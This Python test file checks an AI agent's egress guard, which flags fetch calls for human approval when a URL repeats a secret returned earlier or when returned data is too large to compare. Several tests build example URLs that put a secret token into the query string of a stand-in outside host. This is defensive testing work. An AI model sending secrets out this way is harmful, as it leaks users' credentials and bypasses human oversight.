"""What a model writes into an address is held against all that the thread's nodes returned."""

from collections.abc import Sequence
from dataclasses import replace

import pytest

from agent.ids import NodeId, ToolName, UserId
from agent.limits import DEFAULT_LIMITS
from agent.plan.operations import LoggedOperation, nodes_added
from agent.plan.outcomes import NodeState, NodeStatus, Succeeded
from agent.planning.author_plan import AuthorPlan
from agent.reading.plan_builder import Placed
from agent.reading.stream_reader import read_plan_text
from agent.tool import Egress, Registry
from sandbox.script import Json
from tests.acceptance.plans import lines, tool
from tests.fakes.plans import REGISTRY

ADA = UserId("U0ADA")
SECRET = "vk7f3a9q2xw8"
FILLERS: Sequence[Json] = [{"text": f"{number} " + "a calm day " * 350} for number in range(25)]


def asks(returned: Sequence[Json], *addresses: str) -> bool:
    """Return whether the last of these calls is asked about after nodes have returned this."""
    fetch = REGISTRY.find(ToolName("fetch"))
    assert fetch is not None
    registry = Registry([replace(fetch, egress=Egress(argument="url", known=frozenset()), url_argument="url")])
    ended = {
        NodeId(f"n{at}x"): NodeStatus(state=NodeState.SUCCEEDED, outcome=Succeeded(value=value))
        for at, value in enumerate(returned)
    }
    logged: Sequence[LoggedOperation] = ()
    plan = AuthorPlan(turn=1, author=ADA, logged=logged, statuses=ended)
    builder = plan.builder(registry, DEFAULT_LIMITS, [], packages=False)
    asked = False
    for number, address in enumerate(addresses):
        (placed,) = read_plan_text(lines([tool(f"away{number}", "fetch", {"url": address})]))
        assert isinstance(placed, Placed)
        (node,) = nodes_added(builder.offer(placed).admitted).values()
        asked = node.require_human_approval
    return asked


@pytest.mark.parametrize("more", [[], FILLERS[:3], FILLERS], ids=["alone", "beside a few", "before many"])
@pytest.mark.parametrize("secret", [SECRET, {"token": SECRET}, {SECRET: 1}], ids=["text", "value", "key"])
def test_an_address_that_repeats_a_result_asks_however_much_was_returned_since(
    secret: Json, more: Sequence[Json]
) -> None:
    assert asks([secret, *more], f"http://elsewhere.example/?q={SECRET}")


def test_an_address_that_repeats_nothing_asks_only_where_not_all_results_could_be_read() -> None:
    address = "http://elsewhere.example/other"
    assert not asks([SECRET, *FILLERS[:3]], address)
    assert asks([SECRET, *FILLERS], address)


@pytest.mark.parametrize(("calls", "asked"), [(13, False), (14, True)])
def test_where_a_plan_has_more_words_than_can_be_compared_the_rest_is_asked_about(calls: int, asked: bool) -> None:
    addresses = [f"http://elsewhere.example/{number}?q={'calm ' * 2000}" for number in range(calls)]
    assert asks([SECRET], *addresses) is asked
    assert not asks([], *addresses)
